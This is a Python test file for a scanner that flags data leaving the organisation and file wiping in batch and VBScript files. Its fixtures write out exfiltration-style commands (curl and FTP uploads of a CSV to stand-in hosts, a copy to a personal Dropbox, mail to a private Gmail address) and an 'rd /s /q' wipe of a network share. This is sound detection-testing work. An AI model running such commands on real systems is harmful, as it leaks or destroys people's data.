"""Batch files and VBScript: read by statement, every line where it was, and never low without having been read."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from escrow.core.digests import Digest
from scanners.engine import EngineStatus, Limits
from scanners.engines.flows import FlowsEngine
from scanners.engines.semgrep import SemgrepEngine
from scanners.flow.windows import _PLAINER, _listed, _plain, prepared
from scanners.languages import Language, spoken_by
from scanners.staging import Staging, read_content


def scanned(engine, text, name, ran_as=None):
    return engine.scan([read_content(Digest.of(text.encode()), text.encode(), path=name, ran_as=ran_as)], Limits())[0]


def told(vault_key, text, name):
    report = scanned(FlowsEngine(vault_key), text, name)
    assert report.status is EngineStatus.COMPLETE
    return [(one.rule.removeprefix("flows."), one.line) for one in report.findings]


def test_a_name_stands_for_what_it_was_set_to_in_any_case(vault_key):
    text = "@echo off\nset PARA=%USERPROFILE%\\Dropbox\nrem copy x %para%\n@xcopy C:\\Dados\\*.csv %Para%\\ /S\n"
    assert told(vault_key, text, "a.bat") == [("data-to-own-cloud", 4)]


def test_a_command_goes_on_over_lines(vault_key):
    text = "curl ^\n  -T C:\\Dados\\base.csv ^\n  https://envio.example.net/in\n"
    assert told(vault_key, text, "a.cmd") == [("data-to-upload", 1)]


def test_what_a_list_of_commands_puts_is_sent_and_what_it_gets_is_not(vault_key):
    begin = "echo open ftp.exemplo.com> f.txt\n"
    assert told(vault_key, begin + "echo put base.csv>> f.txt\nftp -n -s:f.txt\n", "a.bat") == [("data-to-upload", 3)]
    assert told(vault_key, begin + "echo get base.csv>> f.txt\nftp -n -s:f.txt\n", "a.bat") == []


def test_a_line_of_vbscript_that_goes_on_is_one_and_keeps_its_place(vault_key):
    text = 'Set m = x\nm.To = _\n  "ana.casa@gmail.com"\nm.Send\n'
    assert prepared(text, Language.VBSCRIPT).split("\n")[1:3] == ['m.To = "ana.casa@gmail.com"', ""]
    assert told(vault_key, text, "a.vbs") == [("data-to-private-mailbox", 2)]


def test_a_program_run_by_vbscript_is_read_as_a_command_line(vault_key):
    text = 'Set s = CreateObject("WScript.Shell")\ns.Run "cmd /c rd /s /q \\\\srv01\\dados", 0\n'
    assert told(vault_key, text, "a.vbs") == [("wipes-files", 2)]


@pytest.mark.parametrize("text", ["@echo off\r\ncd /d C:\\jobs\r\npython etl.py\r\n", ""])
def test_a_batch_file_that_does_nothing_worth_telling_is_read_whole(vault_key, text):
    assert told(vault_key, text, "a.bat") == []


def test_a_script_no_reader_knows_is_not_fully_analysed(vault_key, tmp_path):
    engine = SemgrepEngine(vault_key, Staging(tmp_path))
    report = scanned(engine, "#@~^DgAAAA==", "hidden.vbe", ran_as=Language.UNKNOWN)
    assert report.status is EngineStatus.PARTIAL
    assert scanned(engine, "@echo off", "a.bat", ran_as=spoken_by("cmd")).status is EngineStatus.NOT_APPLICABLE


def test_more_than_can_be_read_is_said(vault_key):
    text = "\n".join(f"schtasks /create /tn T{n} /tr a.bat /sc daily /st 02:00" for n in range(30_000))
    report = scanned(FlowsEngine(vault_key), text, "a.bat")
    assert report.status is EngineStatus.PARTIAL
    assert report.findings


LINES = st.lists(
    st.sampled_from(
        [" ", "\t", "@", ">", ">> ", "rem", "REM ", "echo put x", "> list", "ftp -s:list", "\u00a0", "(", "x"]
    )
)


@given(st.lists(LINES.map("".join), max_size=6))
def test_only_lines_that_begin_so_are_written_in_another_way(lines):
    text = "\n".join(lines)
    assert prepared(text, Language.BATCH) == "\n".join(_listed([_plain(line) for line in text.splitlines()]))
    assert all(_plain(line) == line for line in text.splitlines() if not line.lstrip().startswith(_PLAINER))
